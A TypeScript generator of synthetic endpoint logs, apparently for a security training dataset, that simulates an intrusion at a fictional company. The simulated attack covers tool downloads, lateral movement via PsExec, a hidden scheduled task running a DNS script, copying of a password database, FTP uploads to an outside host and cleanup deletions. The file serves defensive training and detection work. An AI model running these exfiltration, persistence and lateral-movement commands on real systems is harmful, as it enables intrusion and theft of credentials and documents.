/**
 * The story as the endpoints log it: ftp.exe runs (Sysmon and 4688), the spread of the tools to
 * venus, the DNS script scheduled on mercury, and the PowerShell script blocks of the adversary.
 *
 * Counted by design (checked by the facts test): after the Aug 23 download, the events outside
 * stream:ftp that name one of the seven downloaded files are the 22 below, on wrk-klagerf (8),
 * wrk-btun (10) and venus (4), in Sysmon, 4688 and PowerShell logs. winsys32.dll and
 * singlefile.dll appear only in Sysmon and 4688. Mercury's scheduled job runs the same script
 * as a module (`python.exe -m dns` in the folder dns.py was copied to), so its runs name the
 * module, not the file, and are not among the 22.
 */
import { BTUN, KLAGERF, MERCURY, VENUS, type Machine } from '../cast';
import type { SampleEvent } from '../event';
import { scriptBlockLogged } from '../formats/powershell';
import { systemAccount } from '../formats/windows-common';
import { processCreated, scheduledTaskCreated } from '../formats/wineventlog';
import { existingProcess, launch, userAccount, type RunningProcess } from '../processes';
import type { Rng } from '../rng';
import { MONTH_END } from '../time';
import { SCRIPT_DOWNLOAD, SCRIPT_SINGLE, SCRIPT_UPLOAD, TOOLS } from './files';
import { cradleProcess, empireAgent } from './launchers';
import { AT } from './timeline';

export const FTP_EXE = 'C:\\Windows\\System32\\ftp.exe';
const PYTHON = 'C:\\Python27\\python.exe';
const MERCURY_TASK_DIR = 'C:\\ProgramData\\Microsoft\\Network';

const home = (m: Machine) => `C:\\Users\\${m.owner}\\`;

export function endpointStory(rng: Rng): SampleEvent[] {
  const events: SampleEvent[] = [];
  const agents = new Map<string, RunningProcess>();
  // Each machine's agent starts a little before its first use.
  const agent = (m: Machine, time: number) => {
    let p = agents.get(m.host);
    if (!p) agents.set(m.host, (p = empireAgent(rng, m, time - rng.int(60_000, 1_800_000))));
    return p;
  };

  const ftp = (time: number, m: Machine, args: string, cwd = home(m)) => {
    const run = launch(rng, {
      time,
      machine: m,
      account: userAccount(m),
      image: FTP_EXE,
      commandLine: `ftp ${args}`,
      currentDirectory: cwd,
      parent: agent(m, time),
    });
    events.push(...run.events);
  };

  const script = (time: number, m: Machine, text: string, suspicious = false) => {
    events.push(
      scriptBlockLogged({
        time,
        machine: m,
        userSid: userAccount(m).sid,
        text,
        scriptBlockId: rng.guid().toLowerCase(),
        activityId: rng.guid(),
        suspicious,
        processId: agent(m, time).pid,
        threadId: rng.int(500, 3000) * 4,
      }),
    );
  };

  // Aug 23, the download: both workstations and venus run the same script; mercury too,
  // where only Security auditing sees it.
  ftp(AT.btunDownload, BTUN, `-i -s:${SCRIPT_DOWNLOAD}`);
  ftp(AT.klagerfDownload, KLAGERF, `-i -s:${SCRIPT_DOWNLOAD}`);
  ftp(AT.venusDownload, VENUS, `-i -s:${SCRIPT_DOWNLOAD}`, 'C:\\IT\\tools\\');
  events.push(
    ...launch(rng, {
      time: AT.mercuryDownload,
      machine: MERCURY,
      account: userAccount(MERCURY),
      image: FTP_EXE,
      commandLine: `ftp -i -s:${SCRIPT_DOWNLOAD}`,
      currentDirectory: 'C:\\Users\\service3\\',
      parent: agent(MERCURY, AT.mercuryDownload),
    }).events,
  );

  // Venus was blocked, so the IT admin's workstation passes the Python tools on.
  const [, psexec, , , msi, dnsPy] = TOOLS;
  const kHome = home(KLAGERF);
  script(
    AT.copyToVenus,
    KLAGERF,
    `Copy-Item -Path ${kHome}${msi.name}, ${kHome}${dnsPy.name} -Destination \\\\venus\\IT$\\tools\\`,
  );
  const install = `\\\\venus -accepteula -s msiexec.exe /i C:\\IT\\tools\\${msi.name} /qn`;
  script(AT.psexecToVenus, KLAGERF, `& ${kHome}${psexec.name} ${install}`);
  events.push(
    ...launch(rng, {
      time: AT.psexecToVenus + 611,
      machine: KLAGERF,
      account: userAccount(KLAGERF),
      image: `${kHome}${psexec.name}`,
      commandLine: `"${kHome}${psexec.name}" ${install}`,
      currentDirectory: kHome,
      parent: agent(KLAGERF, AT.psexecToVenus),
    }).events,
  );
  const services = existingProcess(rng, VENUS, 'C:\\Windows\\System32\\services.exe');
  const psexesvc = launch(rng, {
    time: AT.psexecToVenus + 2_870,
    machine: VENUS,
    account: 'system',
    image: 'C:\\Windows\\PSEXESVC.exe',
    commandLine: 'C:\\Windows\\PSEXESVC.exe',
    currentDirectory: 'C:\\Windows\\system32\\',
    parent: services,
  });
  events.push(...psexesvc.events);
  events.push(
    ...launch(rng, {
      time: AT.psexecToVenus + 3_412,
      machine: VENUS,
      account: 'system',
      image: 'C:\\Windows\\System32\\msiexec.exe',
      commandLine: `msiexec.exe /i C:\\IT\\tools\\${msi.name} /qn`,
      currentDirectory: 'C:\\Windows\\system32\\',
      parent: psexesvc.process,
    }).events,
  );

  // Venus runs the DNS script from a hidden, encoded cradle.
  script(AT.venusPython, VENUS, `Set-Location C:\\IT\\tools; python ${dnsPy.name}`);
  events.push(
    ...launch(rng, {
      time: AT.venusPython + 402,
      machine: VENUS,
      account: userAccount(VENUS),
      image: PYTHON,
      commandLine: `python ${dnsPy.name}`,
      currentDirectory: 'C:\\IT\\tools\\',
      parent: cradleProcess(rng, VENUS, AT.venusPython - 1_200),
    }).events,
  );

  const bHome = home(BTUN);
  script(
    AT.btunChecksTools,
    BTUN,
    `Get-ChildItem ${bHome}nc.exe, ${bHome}psexec.exe, ${bHome}wget64.exe | Select-Object Name, Length, LastWriteTime`,
  );

  // Aug 24: venus hands the script to mercury, where a task runs it every ten minutes.
  script(
    AT.copyToMercury,
    VENUS,
    `Copy-Item C:\\IT\\tools\\${dnsPy.name} \\\\mercury\\C$\\ProgramData\\Microsoft\\Network\\`,
  );
  events.push(...mercuryJob(rng));
  script(AT.btunReadsScript, BTUN, `Get-Content ${bHome}${SCRIPT_UPLOAD}`);
  script(
    AT.btunEditsScript,
    BTUN,
    `(Get-Content ${bHome}${SCRIPT_UPLOAD}) -replace 'mput \\*.docx','mput *.pdf' | Set-Content ${bHome}${SCRIPT_UPLOAD}`,
  );

  // Aug 25: the uploads, each from the folder whose files it sends.
  script(
    AT.klagerfUpload - 1_310,
    KLAGERF,
    `Copy-Item \\\\venus\\IT$\\frothly_passwords.kdbx ${kHome}; Set-Location ${kHome}; ftp -i -s:${SCRIPT_UPLOAD}`,
  );
  ftp(AT.klagerfUpload - 1_000, KLAGERF, `-i -s:${SCRIPT_UPLOAD}`);
  const batches: [number, string][] = [
    [AT.btunBatch1, `${bHome}Documents`],
    [AT.btunBatch2, `${bHome}Desktop\\Archive`],
  ];
  for (const [time, folder] of batches) {
    script(
      time - 1_220,
      BTUN,
      `Copy-Item ${bHome}${SCRIPT_UPLOAD} ${folder}\\; Set-Location ${folder}; ftp -i -s:${SCRIPT_UPLOAD}`,
    );
    ftp(time - 1_000, BTUN, `-i -s:${SCRIPT_UPLOAD}`, `${folder}\\`);
  }
  ftp(AT.btunOpen - 1_000, BTUN, 'open hildegardsfarm.com');
  ftp(AT.btunSingleFile, BTUN, `-i -s:${SCRIPT_SINGLE}`);

  // Aug 26: cleaning up (winsys32.dll and singlefile.dll are forgotten).
  const [nc, , wget, winsys64, , , hwp] = TOOLS;
  script(
    AT.btunCleanup,
    BTUN,
    `Remove-Item ${[nc, psexec, wget, winsys64, hwp].map((f) => bHome + f.name).join(', ')} -Force`,
  );
  script(
    AT.klagerfCleanup,
    KLAGERF,
    `Remove-Item ${kHome}${psexec.name}, ${kHome}${winsys64.name}, ${kHome}frothly_passwords.kdbx -Force`,
  );
  return events;
}

/** The scheduled task on mercury and its runs every ten minutes to the end of the month. */
function mercuryJob(rng: Rng): SampleEvent[] {
  const service3 = userAccount(MERCURY);
  const system = systemAccount(MERCURY);
  const taskName = '\\Microsoft\\Windows\\DNS\\CacheRefresh';
  const events: SampleEvent[] = [
    scheduledTaskCreated({
      time: AT.mercuryTask,
      machine: MERCURY,
      subject: service3,
      taskName,
      taskContent: taskXml(service3.name),
    }),
  ];
  const scheduler = existingProcess(rng, MERCURY, 'C:\\Windows\\System32\\svchost.exe');
  for (let t = AT.mercuryFirstRun; t <= MONTH_END; t += 600_000) {
    events.push(
      processCreated({
        time: t + rng.int(5, 900),
        machine: MERCURY,
        creator: system,
        target: service3,
        newProcessId: rng.int(200, 4000) * 4,
        newProcessName: PYTHON,
        creatorProcessId: scheduler.pid,
        creatorProcessName: scheduler.image,
        commandLine: `"${PYTHON}" -m dns`,
        elevation: '%%1938',
        label: 'Medium',
      }),
    );
  }
  return events;
}

function taskXml(user: string): string {
  return [
    '<?xml version="1.0" encoding="UTF-16"?>',
    '<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">',
    '  <RegistrationInfo>',
    '    <Date>2017-08-24T01:03:40</Date>',
    `    <Author>FROTHLY\\${user}</Author>`,
    '  </RegistrationInfo>',
    '  <Triggers>',
    '    <TimeTrigger>',
    '      <Repetition>',
    '        <Interval>PT10M</Interval>',
    '        <StopAtDurationEnd>false</StopAtDurationEnd>',
    '      </Repetition>',
    '      <StartBoundary>2017-08-24T01:10:00</StartBoundary>',
    '      <Enabled>true</Enabled>',
    '    </TimeTrigger>',
    '  </Triggers>',
    '  <Principals>',
    '    <Principal id="Author">',
    `      <UserId>FROTHLY\\${user}</UserId>`,
    '      <LogonType>Password</LogonType>',
    '      <RunLevel>LeastPrivilege</RunLevel>',
    '    </Principal>',
    '  </Principals>',
    '  <Settings>',
    '    <Hidden>true</Hidden>',
    '    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>',
    '  </Settings>',
    '  <Actions Context="Author">',
    '    <Exec>',
    `      <Command>${PYTHON}</Command>`,
    '      <Arguments>-m dns</Arguments>',
    `      <WorkingDirectory>${MERCURY_TASK_DIR}</WorkingDirectory>`,
    '    </Exec>',
    '  </Actions>',
    '</Task>',
  ].join('\n');
}
